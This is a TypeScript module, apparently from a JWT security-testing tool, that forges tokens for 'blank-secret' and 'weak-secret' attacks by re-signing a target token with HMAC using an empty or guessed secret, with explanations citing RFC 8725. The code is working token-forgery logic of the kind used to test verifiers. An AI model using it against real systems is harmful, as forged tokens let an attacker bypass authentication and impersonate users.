/**
 * Tokens signed with a secret the attacker knows: `blank-secret` (the empty secret of a verifier whose secret
 * was never set) and `weak-secret` (a secret guessed or cracked offline). Both keep the token's HMAC alg, so
 * they fit a verifier configured for it; any other alg becomes HS256.
 */
import { utf8Bytes } from '../base64url';
import { hmacAlgorithmFor, hmacToken } from './forge';
import { withHeaderMember, type AttackTarget } from './target';
import { AttackError, type AttackVariant } from './types';

export async function blankSecretVariants(target: AttackTarget): Promise<AttackVariant[]> {
  const alg = hmacAlgorithmFor(target.alg);
  return [
    {
      kind: 'blank-secret',
      variant: alg,
      token: await hmacToken(alg, new Uint8Array(0), withHeaderMember(target.headerText, 'alg', alg), target.payloadSegment),
      explanation:
        `Signed with ${alg} and an empty secret: a verifier whose secret is missing (an unset environment variable, a failed lookup read as "") accepts it. ` +
        'RFC 8725 §3.5 requires keys with sufficient entropy; an empty key has none.',
    },
  ];
}

/** The secret for weak-secret, as UTF-8 bytes: an empty one is blank-secret's job. */
export function weakSecretBytes(secret: string | undefined): Uint8Array {
  if (secret === undefined) throw new AttackError('option-missing', 'weak-secret needs the secret to sign with (--secret)');
  if (secret === '') throw new AttackError('option-invalid', 'the secret is empty (that is the blank-secret attack)');
  return utf8Bytes(secret);
}

export async function weakSecretVariants(target: AttackTarget, secret: Uint8Array): Promise<AttackVariant[]> {
  const alg = hmacAlgorithmFor(target.alg);
  return [
    {
      kind: 'weak-secret',
      variant: alg,
      token: await hmacToken(alg, secret, withHeaderMember(target.headerText, 'alg', alg), target.payloadSegment),
      explanation:
        `The token re-signed with ${alg} and the given secret: if that is the verifier's secret (guessed from a list, or cracked offline from one token), any claims signed with it are accepted. ` +
        'RFC 8725 §3.5 requires secrets with enough entropy to resist brute force (§2.2).',
    },
  ];
}
